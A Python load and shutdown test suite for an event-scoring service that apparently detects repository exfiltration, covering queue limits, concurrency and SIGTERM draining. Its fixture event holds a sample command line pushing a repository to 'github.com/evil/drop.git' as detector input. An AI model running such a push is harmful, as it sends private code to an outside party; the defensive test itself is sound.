#!/usr/bin/env python3
"""The worker pool and the service under load and shutdown, over loopback:

- queue full: one worker and a one-slot queue; with one big batch running
  and one waiting, the next batch gets 503 + Retry-After at once (and the
  two big ones are still answered 200);
- concurrency: 32 clients x 100 mixed requests at once (batches in several
  envelopes, health, metrics, errors), every answer checked in full;
- SIGTERM while slow batches are in flight: each is answered 200, /readyz
  turns 503 and new batches get 503 on open connections, exit status 0;
- drain deadline: batches that cannot finish in --drain-seconds are
  answered 503 and the process still exits 0 in time.

Every loop is bounded. Last line: "N passed, M failed".
"""
import json
import os
import random
import signal
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rxharness import SANITIZE, Server, Tally, request, t  # noqa: E402

T = Tally()
JSON = {"Content-Type": "application/json"}
PUSH = {"EventID": 1, "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
        "CommandLine": "git push https://github.com/evil/drop.git main",
        "Computer": "WS01", "User": "CORP\\al",
        "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        "_messageTime": 1700000000123}
QUIET = {"EventID": 3, "Image": "C:\\x\\notepad.exe",
         "DestinationHostname": "example.com"}
BIG_EVENTS = 30000 if SANITIZE else 100000


def big_body(n=BIG_EVENTS):
    # Every event alerts: the slowest kind (alert rows are copied and
    # sorted), so a batch takes long enough to be caught in flight.
    return json.dumps([PUSH] * n).encode()


def metric(srv, name):
    r = srv.request("GET", "/metrics", timeout=10)
    for line in r.body.decode().splitlines():
        if line.startswith(name + " "):
            return float(line.split()[-1])
    return None


def wait_for(pred, timeout, step=0.02):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if pred():
            return True
        time.sleep(step)
    return False


class Poster(threading.Thread):
    """POSTs one body in the background and keeps the answer."""

    def __init__(self, port, body, path="/events?notify=false", timeout=120):
        super().__init__(daemon=True)
        self.port, self.body, self.path, self.timeout = (port, body, path,
                                                         timeout)
        self.response = None
        self.error = None

    def run(self):
        try:
            self.response = request(self.port, "POST", self.path, self.body,
                                    JSON, timeout=self.timeout)
        except Exception as e:  # noqa: BLE001 - reported by the test
            self.error = e


def test_queue_full():
    # The probe is a small batch; --inline-max-bytes 0 sends it to the
    # queue too (by default a small batch is scored on the HTTP thread and
    # never meets the queue: test_small_batches_inline checks that).
    srv = Server("--workers", "1", "--queue-depth", "1",
                 "--inline-max-bytes", "0",
                 "--max-body-bytes", "67108864", "--max-events", "200000",
                 name="queue")
    try:
        body = big_body()
        a = Poster(srv.port, body)
        a.start()
        T.check(wait_for(lambda: metric(srv, "repoexfil_workers_busy") == 1,
                         t(30)), "queue: the first batch is running")
        b = Poster(srv.port, body)
        b.start()
        ok = wait_for(lambda: metric(srv, "repoexfil_worker_queue_depth")
                      == 1, t(30))
        T.check(ok, "queue: the second batch waits in the one slot")
        t0 = time.time()
        r = srv.request("POST", "/events", json.dumps([PUSH]), JSON)
        j = r.json() or {}
        T.check(r.status == 503, "queue full: 503", repr(r))
        T.check((j.get("error") or {}).get("code") == "overloaded",
                "queue full: code overloaded", repr(j))
        T.check(r.header("retry-after") and
                r.header("retry-after").isdigit(),
                "queue full: Retry-After", repr(r.headers))
        T.check(r.header("x-request-id"), "queue full: X-Request-ID")
        T.check(time.time() - t0 < t(2), "queue full: answered at once")
        T.check(metric(srv, "repoexfil_queue_full_total") >= 1,
                "queue full: counted in metrics")
        # Health stays answered by the HTTP thread meanwhile.
        T.check(srv.request("GET", "/healthz").status == 200,
                "queue full: /healthz still answers")
        for name, p in (("first", a), ("second", b)):
            p.join(t(120))
            r = p.response
            T.check(r is not None and r.status == 200 and
                    (r.json() or {}).get("received") == BIG_EVENTS,
                    "queue: the %s big batch is answered 200" % name,
                    repr(p.error or r))
        r = srv.request("POST", "/events", json.dumps([PUSH]), JSON)
        T.check(r.status == 200, "queue: takes batches again", repr(r))
    finally:
        T.stopped_cleanly(srv, "queue", timeout=60)


def test_small_batches_inline():
    """With the one worker busy and the one slot taken, a small batch is
    still scored at once (on the HTTP thread), and a large one gets 503."""
    srv = Server("--workers", "1", "--queue-depth", "1",
                 "--max-body-bytes", "67108864", "--max-events", "200000",
                 name="inline")
    try:
        body = big_body()
        a = Poster(srv.port, body)
        a.start()
        T.check(wait_for(lambda: metric(srv, "repoexfil_workers_busy") == 1,
                         t(30)), "inline: the first batch is running")
        b = Poster(srv.port, body)
        b.start()
        T.check(wait_for(lambda: metric(srv, "repoexfil_worker_queue_depth")
                         == 1, t(30)), "inline: the second batch waits")
        t0 = time.time()
        r = srv.request("POST", "/events", json.dumps([PUSH]), JSON)
        j = r.json() or {}
        T.check(r.status == 200 and j.get("alert_count") == 1,
                "inline: a small batch is scored while the queue is full",
                repr(r))
        T.check(time.time() - t0 < t(2), "inline: answered at once")
        mid = json.dumps([PUSH] * 200)  # over 16 KiB: goes to the queue
        T.check(len(mid) > 16384, "inline: the mid batch is over the limit")
        r = srv.request("POST", "/events", mid, JSON)
        T.check(r.status == 503, "inline: a larger batch gets 503", repr(r))
        for p in (a, b):
            p.join(t(120))
            T.check(p.response is not None and p.response.status == 200,
                    "inline: big batch answered 200", repr(p.error))
    finally:
        T.stopped_cleanly(srv, "inline", timeout=60)


def templates():
    """(label, method, path, body, headers, check(resp, expected))."""
    xml = ("<Events>" + "".join(
        "<Event><System><EventID>1</EventID><Computer>H%d</Computer>"
        "</System><EventData><Data Name='Image'>C:\\g\\git.exe</Data>"
        "<Data Name='CommandLine'>git push https://gitlab.com/a/%d</Data>"
        "</EventData></Event>" % (i, i) for i in range(5)) + "</Events>")
    batch = [PUSH, QUIET, 7, dict(PUSH, Computer="jenkins-01")] * 5
    return [
        ("json", "POST", "/events?notify=false", json.dumps(batch), JSON),
        ("alerts", "POST", "/events?notify=false&view=alerts",
         json.dumps(batch), JSON),
        ("events-env", "POST", "/events?notify=false",
         json.dumps({"events": batch}), JSON),
        ("ndjson", "POST", "/events?notify=false",
         "\n".join(json.dumps(e) for e in batch),
         {"Content-Type": "application/x-ndjson"}),
        ("xml", "POST", "/events?notify=false", xml,
         {"Content-Type": "application/xml"}),
        ("notify", "POST", "/events", json.dumps([QUIET, PUSH]), JSON),
        ("healthz", "GET", "/healthz", None, {}),
        ("version", "GET", "/version", None, {}),
        ("rules", "GET", "/rules", None, {}),
        ("metrics", "GET", "/metrics", None, {}),
        ("404", "GET", "/nope", None, {}),
        ("405", "DELETE", "/events", None, {}),
        ("400", "POST", "/events", "[{\"EventID\": }]", JSON),
        ("415", "POST", "/events", "x", {"Content-Type": "text/html"}),
    ]


def strip(resp):
    """What must be identical between two answers to the same request."""
    j = resp.json()
    if isinstance(j, dict):
        j.pop("request_id", None)
        return resp.status, j
    if resp.body.startswith(b"# HELP"):
        return resp.status, "metrics"
    return resp.status, resp.body


def test_concurrency():
    srv = Server("--workers", "2", name="concurrency")
    clients, per_client = 32, 100
    failures = []
    counts = {"ok": 0}
    lock = threading.Lock()
    try:
        tpl = templates()
        expected = {}
        for label, method, path, body, headers in tpl:
            expected[label] = strip(srv.request(method, path, body, headers))
        T.check(expected["json"][0] == 200 and
                expected["json"][1]["alert_count"] == 5 and
                expected["json"][1]["errors"] == 5,
                "concurrency: template answer", repr(expected["json"])[:200])

        def client(ci):
            rnd = random.Random(ci)
            conn = srv.connection(timeout=60)
            for k in range(per_client):
                label, method, path, body, headers = rnd.choice(tpl)
                rid = "c%d-r%d" % (ci, k)
                h = dict(headers, **{"X-Request-ID": rid})
                try:
                    r = request(srv.port, method, path, body, h, conn=conn)
                except Exception as e:  # noqa: BLE001
                    with lock:
                        failures.append("%s %s: %r" % (rid, label, e))
                    conn.close()
                    conn = srv.connection(timeout=60)
                    continue
                if r.header("connection") == "close":
                    conn.close()
                    conn = srv.connection(timeout=60)
                problem = None
                if r.header("x-request-id") != rid:
                    problem = "X-Request-ID %r" % r.header("x-request-id")
                elif strip(r) != expected[label]:
                    problem = "answer differs: %r" % (r.body[:200],)
                elif (r.json() or {}).get("request_id", rid) != rid:
                    problem = "request_id in body"
                with lock:
                    if problem:
                        failures.append("%s %s: %s" % (rid, label, problem))
                    else:
                        counts["ok"] += 1
            conn.close()

        threads = [threading.Thread(target=client, args=(i,), daemon=True)
                   for i in range(clients)]
        t0 = time.time()
        for th in threads:
            th.start()
        for th in threads:
            th.join(t(300))
        elapsed = time.time() - t0
        alive = sum(th.is_alive() for th in threads)
        T.check(alive == 0, "concurrency: every client finished",
                "%d still running" % alive)
        T.check(not failures and counts["ok"] == clients * per_client,
                "concurrency: %d x %d answers all correct" %
                (clients, per_client),
                "%d ok, %d bad; first: %s" % (counts["ok"], len(failures),
                                             failures[:5]))
        print("concurrency: %d requests in %.2f s (%.0f/s)" %
              (clients * per_client, elapsed,
               clients * per_client / max(elapsed, 1e-9)), flush=True)
        T.check(metric(srv, "repoexfil_http_requests_in_flight") == 1,
                "concurrency: in-flight back to 1 (this scrape)")
    finally:
        T.stopped_cleanly(srv, "concurrency", timeout=60)


def test_sigterm_in_flight():
    srv = Server("--workers", "2", "--max-body-bytes", "67108864",
                 "--max-events", "200000", "--drain-seconds", "120",
                 name="sigterm")
    try:
        body = big_body()
        keep = srv.connection(timeout=60)  # open before SIGTERM
        T.check(request(srv.port, "GET", "/readyz", conn=keep).status == 200,
                "sigterm: ready before")
        keep2 = srv.connection(timeout=60)
        T.check(request(srv.port, "GET", "/healthz", conn=keep2).status ==
                200, "sigterm: second keep-alive connection")
        posters = [Poster(srv.port, body, timeout=300) for _ in range(4)]
        for p in posters:
            p.start()
        T.check(wait_for(lambda: metric(srv, "repoexfil_workers_busy") == 2
                         and metric(srv, "repoexfil_worker_queue_depth") == 2,
                         t(60)),
                "sigterm: two batches running, two queued")
        srv.send_signal(signal.SIGTERM)
        T.check(wait_for(lambda: any(o.get("msg") == "draining"
                                     for o in srv.log_lines()), t(10)),
                "sigterm: draining logged")
        r = request(srv.port, "GET", "/readyz", conn=keep)
        T.check(r.status == 503 and (r.json() or {}).get("status") ==
                "draining", "sigterm: /readyz 503 draining", repr(r))
        r = request(srv.port, "POST", "/events", json.dumps([PUSH]), JSON,
                    conn=keep2)
        T.check(r.status == 503 and r.header("retry-after") and
                ((r.json() or {}).get("error") or {}).get("code") ==
                "draining", "sigterm: a new batch gets 503 draining",
                repr(r))
        keep.close()
        keep2.close()
        for i, p in enumerate(posters):
            p.join(t(300))
            r = p.response
            T.check(r is not None and r.status == 200 and
                    (r.json() or {}).get("received") == BIG_EVENTS,
                    "sigterm: in-flight batch %d answered 200" % i,
                    repr(p.error or r))
        rc = srv.wait(120)
        T.check(rc == 0, "sigterm: exit status 0", repr(rc))
        T.check(any(o.get("msg") == "stopped" for o in srv.log_lines()),
                "sigterm: stopped logged")
        T.check(srv.sanitizer_report() is None, "sigterm: no sanitizer report",
                srv.sanitizer_report() or "")
    finally:
        srv.kill()


def test_drain_deadline():
    drain = 3
    srv = Server("--workers", "1", "--max-body-bytes", "67108864",
                 "--max-events", "200000", "--drain-seconds", str(drain),
                 name="deadline")
    try:
        body = big_body()
        posters = [Poster(srv.port, body, timeout=300) for _ in range(3)]
        for p in posters:
            p.start()
        T.check(wait_for(lambda: metric(srv, "repoexfil_worker_queue_depth")
                         == 2, t(60)), "deadline: one running, two queued")
        t0 = time.time()
        srv.send_signal(signal.SIGTERM)
        rc = srv.wait(drain + t(30))
        elapsed = time.time() - t0
        T.check(rc == 0, "deadline: exit status 0", repr(rc))
        T.check(elapsed < drain + (t(3) if SANITIZE else 1.5),
                "deadline: stopped within --drain-seconds",
                "%.2f s" % elapsed)
        codes = []
        for p in posters:
            p.join(t(30))
            codes.append(p.response.status if p.response else repr(p.error))
        T.check(all(c in (200, 503) for c in codes),
                "deadline: every batch answered (200 or 503)", repr(codes))
        T.check(503 in codes, "deadline: unfinished batches get 503",
                repr(codes))
        T.check(srv.sanitizer_report() is None,
                "deadline: no sanitizer report", srv.sanitizer_report() or "")
    finally:
        srv.kill()


def test_job_deadline():
    srv = Server("--workers", "1", "--job-timeout", "1",
                 "--max-body-bytes", "67108864", "--max-events", "200000",
                 name="job-deadline")
    try:
        body = big_body()
        posters = [Poster(srv.port, body, timeout=300) for _ in range(4)]
        t0 = time.time()
        for p in posters:
            p.start()
        for p in posters:
            p.join(t(300))
        elapsed = time.time() - t0
        answers = [p.response for p in posters]
        T.check(all(r is not None for r in answers),
                "job deadline: every batch answered",
                repr([p.error for p in posters]))
        answers = [r for r in answers if r is not None]
        late = [r for r in answers if r.status == 503]
        T.check(all(r.status in (200, 503) for r in answers),
                "job deadline: 200 or 503", repr([r.status for r in answers]))
        T.check(all(((r.json() or {}).get("error") or {}).get("code") ==
                    "overloaded" and r.header("retry-after") for r in late),
                "job deadline: 503 overloaded with Retry-After")
        # Four big batches on one worker take well over a second here; if
        # they did not, nothing could be late.
        T.check(late or elapsed < 1.5,
                "job deadline: batches past --job-timeout get 503",
                "%.2f s, statuses %r" % (elapsed,
                                         [r.status for r in answers]))
        r = srv.request("POST", "/events", json.dumps([PUSH]), JSON)
        T.check(r.status == 200, "job deadline: small batch fine after")
    finally:
        T.stopped_cleanly(srv, "job-deadline", timeout=60)


def test_drain_uploads():
    """An upload still going when SIGTERM comes is read, scored and
    answered; a client that sent half a body and vanished does not hold
    the shutdown until --drain-seconds."""
    import socket
    srv = Server("--workers", "1", "--drain-seconds", "30",
                 name="drain-uploads")
    try:
        dead = socket.create_connection(("127.0.0.1", srv.port))
        dead.sendall(b"POST /events HTTP/1.1\r\nHost: x\r\n"
                     b"Content-Type: application/json\r\n"
                     b"Content-Length: 1000\r\n\r\n[{")
        dead.close()
        body = json.dumps([PUSH] * 50).encode()
        live = socket.create_connection(("127.0.0.1", srv.port),
                                        timeout=t(30))
        live.sendall(b"POST /events?notify=false HTTP/1.1\r\nHost: x\r\n"
                     b"Content-Type: application/json\r\n"
                     b"Connection: close\r\n"
                     b"Content-Length: %d\r\n\r\n" % len(body) + body[:10])
        time.sleep(0.3)
        t0 = time.time()
        srv.send_signal(signal.SIGTERM)
        for i in range(10, len(body), 1000):
            time.sleep(0.2)
            live.sendall(body[i:i + 1000])
        data = b""
        while True:
            b = live.recv(65536)
            if not b:
                break
            data += b
        live.close()
        T.check(data.startswith(b"HTTP/1.1 200") and
                b'"received":50' in data,
                "drain: an upload in progress at SIGTERM is answered 200",
                repr(data[:200]))
        rc = srv.wait(60)
        elapsed = time.time() - t0
        T.check(rc == 0, "drain: exit 0 with a vanished uploader", repr(rc))
        T.check(elapsed < t(6), "drain: a vanished uploader does not hold "
                "the shutdown", "%.2f s" % elapsed)
    finally:
        srv.kill()


def main():
    test_queue_full()
    test_small_batches_inline()
    test_job_deadline()
    test_concurrency()
    test_sigterm_in_flight()
    test_drain_deadline()
    test_drain_uploads()
    return T.finish()


if __name__ == "__main__":
    sys.exit(main())
